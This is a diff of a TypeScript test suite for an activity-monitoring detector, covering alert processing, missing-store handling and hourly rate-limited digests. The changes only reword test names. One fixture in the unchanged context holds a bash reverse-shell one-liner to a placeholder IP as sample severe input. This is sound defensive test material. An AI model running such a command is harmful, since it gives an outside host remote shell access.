@@ -58,7 +58,7 @@ describe('processActivity', () => {
     expect(detector.alerts).toHaveLength(1)
   })
 
-  it('does not send again what went out when only its claim could not be settled', async () => {
+  it('does not send again what went out when only its claim could not be finalized', async () => {
     const detector = testDetector()
     let sent = false
     const read: typeof detector.state.read = async (kind, ids) => {
@@ -173,7 +173,7 @@ describe('processActivity', () => {
     expect(verdict?.findings.length).toBeGreaterThan(0)
   })
 
-  it('tells that a rule threw, and counts it', async () => {
+  it('reports that a rule threw, and counts it', async () => {
     const notices: string[] = []
     const detector = testDetector({}, { health: { notice: async (title) => void notices.push(title) } })
     const broken = {
@@ -190,7 +190,7 @@ describe('processActivity', () => {
 })
 
 describe('without a store', () => {
-  it('speaks of what needs no history, marks it, and asks for the record again', async () => {
+  it('reports what needs no history, marks it, and asks for the record again', async () => {
     const down = async (): Promise<never> => {
       throw new Error('down')
     }
@@ -301,7 +301,7 @@ describe('mails by the hour', () => {
       ...(severe ? { payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } as const } : {}),
     })
 
-  it('hold back what is below high beyond the limit, and send one digest at the end of the hour', async () => {
+  it('rate-limit what is below high beyond the limit, and send one digest at the end of the hour', async () => {
     const detector = testDetector({ maxAlertsPerHour: 2 })
     for (const name of ['A', 'B', 'C', 'D']) await processActivity(detector, caller(name), 'first')
     await processActivity(detector, caller('Severe', true), 'first')
